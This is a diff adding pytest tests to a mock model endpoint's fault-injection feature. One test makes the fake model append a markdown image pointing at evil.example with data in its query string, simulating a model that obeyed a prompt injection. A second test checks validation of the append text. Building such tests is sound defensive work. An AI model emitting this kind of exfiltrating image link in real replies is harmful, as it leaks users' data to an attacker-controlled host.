@@ -155,6 +155,28 @@ def test_bad_fault_request_is_refused_with_what_is_accepted(clean_model_endpoint
     assert "accepted: ok, throttle" in caught.value.read().decode()
 
 
+def test_append_fault_plays_a_model_that_obeyed_an_injection(clean_model_endpoint: ModelEndpoint) -> None:
+    smuggled = "![s](https://evil.example/p.png?q=leave)"
+    assert clean_model_endpoint.fault("append", model=PRIMARY, count=1, text=smuggled)["rules"][0]["text"] == smuggled
+    client = bedrock_client(clean_model_endpoint.url)
+    first = client.converse(modelId=PRIMARY, messages=_user(PROMPT))["output"]["message"]["content"][0]["text"]
+    events = list(client.converse_stream(modelId=PRIMARY, messages=_user(PROMPT))["stream"])
+    second = "".join(e["contentBlockDelta"]["delta"]["text"] for e in events if "contentBlockDelta" in e)
+    assert first == f"{EXPECTED}\n\n{smuggled}"
+    assert second == EXPECTED  # count=1: the next answer is the model's own again
+
+
+@pytest.mark.parametrize("text", [None, "", "   ", 7, "x" * 2001])
+def test_append_fault_without_usable_text_is_refused(clean_model_endpoint: ModelEndpoint, text: object) -> None:
+    import urllib.error
+
+    options = {} if text is None else {"text": text}
+    with pytest.raises(urllib.error.HTTPError) as caught:
+        clean_model_endpoint.fault("append", **options)
+    assert caught.value.code == 400
+    assert "mode append needs text: a non-empty string of at most 2000 characters" in caught.value.read().decode()
+
+
 def test_malformed_converse_body_is_a_validation_error(clean_model_endpoint: ModelEndpoint) -> None:
     import urllib.error
     import urllib.request
